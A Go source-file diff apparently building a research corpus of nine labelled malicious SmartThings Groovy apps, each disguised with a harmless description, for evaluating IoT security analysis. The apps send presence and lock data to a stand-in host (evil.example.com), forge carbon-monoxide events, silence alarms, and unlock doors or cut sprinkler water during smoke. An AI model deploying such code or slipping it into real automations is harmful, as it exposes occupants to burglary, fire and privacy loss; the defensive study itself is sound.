@@ -1,0 +1,154 @@
+package corpus
+
+// The 9 ContexIoT-style malicious apps used in §10.3. Following Jia et
+// al., each masquerades as a benign convenience app (trojaned
+// description) while leaking data via network interfaces, forging
+// events, executing security-sensitive commands, or coercing unsafe
+// physical states.
+
+func mal(name, groovy string) {
+	register(Source{Name: name, Group: 0, Tags: []Tag{TagMalicious}, Groovy: groovy})
+}
+
+func init() {
+	// Information leakage via httpPost (2 apps).
+	mal("Presence Tracker Plus", `
+definition(name: "Presence Tracker Plus", namespace: "evil.corp", author: "helpful dev",
+    description: "Keeps a tidy log of arrivals and departures for your records.", category: "Convenience")
+preferences {
+    section("People") { input "people", "capability.presenceSensor", multiple: true }
+}
+def installed() { subscribe(people, "presence", presenceHandler) }
+def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
+def presenceHandler(evt) {
+    // "Log" arrivals to the developer's analytics endpoint.
+    httpPost("http://evil.example.com/track", "presence=${evt.value}&who=${evt.displayName}")
+}
+`)
+
+	mal("Lock Activity Journal", `
+definition(name: "Lock Activity Journal", namespace: "evil.corp", author: "helpful dev",
+    description: "A journal of every lock and unlock, searchable later.", category: "Safety & Security")
+preferences {
+    section("Locks") { input "locks", "capability.lock", multiple: true }
+}
+def installed() { subscribe(locks, "lock", lockHandler) }
+def updated() { unsubscribe(); subscribe(locks, "lock", lockHandler) }
+def lockHandler(evt) {
+    httpPost("http://evil.example.com/locks", "state=${evt.value}&device=${evt.displayName}&mode=${location.mode}")
+}
+`)
+
+	// Fake events and security-sensitive commands (2 apps).
+	mal("Air Quality Helper", `
+definition(name: "Air Quality Helper", namespace: "evil.corp", author: "helpful dev",
+    description: "Periodically refreshes your air-quality readings.", category: "Convenience")
+preferences {
+    section("Trigger switch") { input "trigger", "capability.switch" }
+}
+def installed() { subscribe(trigger, "switch.on", refresh) }
+def updated() { unsubscribe(); subscribe(trigger, "switch.on", refresh) }
+def refresh(evt) {
+    // Forge a carbon monoxide detection to trigger evacuation responses
+    // (unlocked doors, opened windows) from safety apps.
+    sendEvent(name: "carbonMonoxide", value: "detected")
+}
+`)
+
+	mal("Battery Saver Pro", `
+definition(name: "Battery Saver Pro", namespace: "evil.corp", author: "helpful dev",
+    description: "Reduces event chatter to extend your sensors' battery life.", category: "Green Living")
+preferences {
+    section("Alarm to manage") { input "alarm1", "capability.alarm" }
+}
+def installed() { subscribe(alarm1, "alarm", alarmHandler) }
+def updated() { unsubscribe(); subscribe(alarm1, "alarm", alarmHandler) }
+def alarmHandler(evt) {
+    if (evt.value != "off") {
+        // Disable this app's own monitoring and silence the siren.
+        unsubscribe()
+        alarm1.off()
+    }
+}
+`)
+
+	// Unsafe physical states (5 apps).
+	mal("Night Breeze", `
+definition(name: "Night Breeze", namespace: "evil.corp", author: "helpful dev",
+    description: "Lets the evening air in by managing your smart door at night.", category: "Convenience")
+preferences {
+    section("Door lock") { input "lock1", "capability.lock" }
+}
+def installed() { subscribe(location, "mode", modeHandler) }
+def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
+def modeHandler(evt) {
+    if (evt.value == "Night") {
+        lock1.unlock()
+    }
+}
+`)
+
+	mal("Water Saver Valve", `
+definition(name: "Water Saver Valve", namespace: "evil.corp", author: "helpful dev",
+    description: "Avoids wasted water by closing valves when sensors fire.", category: "Green Living")
+preferences {
+    section("Smoke detector") { input "smoke1", "capability.smokeDetector" }
+    section("Valve") { input "valve1", "capability.valve" }
+}
+def installed() { subscribe(smoke1, "smoke", smokeHandler) }
+def updated() { unsubscribe(); subscribe(smoke1, "smoke", smokeHandler) }
+def smokeHandler(evt) {
+    if (evt.value == "detected") {
+        // Cut the fire-sprinkler supply exactly when it is needed.
+        valve1.close()
+    }
+}
+`)
+
+	mal("Vacation Comfort Prep", `
+definition(name: "Vacation Comfort Prep", namespace: "evil.corp", author: "helpful dev",
+    description: "Pre-heats the home so you never return to a cold house.", category: "Green Living")
+preferences {
+    section("Heater outlet") { input "heater", "capability.switch" }
+}
+def installed() { subscribe(location, "mode", modeHandler) }
+def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
+def modeHandler(evt) {
+    if (evt.value == "Away") {
+        // Run the space heater unattended for days.
+        heater.on()
+    }
+}
+`)
+
+	mal("Garage Airing Assistant", `
+definition(name: "Garage Airing Assistant", namespace: "evil.corp", author: "helpful dev",
+    description: "Airs out the garage on a schedule you don't have to remember.", category: "Convenience")
+preferences {
+    section("Garage door") { input "garage", "capability.garageDoorControl" }
+}
+def installed() { subscribe(location, "mode", modeHandler) }
+def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
+def modeHandler(evt) {
+    if (evt.value == "Night" || evt.value == "Away") {
+        garage.open()
+    }
+}
+`)
+
+	mal("Welcome Door Opener", `
+definition(name: "Welcome Door Opener", namespace: "evil.corp", author: "helpful dev",
+    description: "Opens the door for deliveries so packages stay safe inside.", category: "Convenience")
+preferences {
+    section("Door") { input "door1", "capability.doorControl" }
+    section("Motion at porch") { input "motion1", "capability.motionSensor" }
+}
+def installed() { subscribe(motion1, "motion.active", porchMotion) }
+def updated() { unsubscribe(); subscribe(motion1, "motion.active", porchMotion) }
+def porchMotion(evt) {
+    if (location.mode == "Away") {
+        door1.open()
+    }
+}
+`)
+}
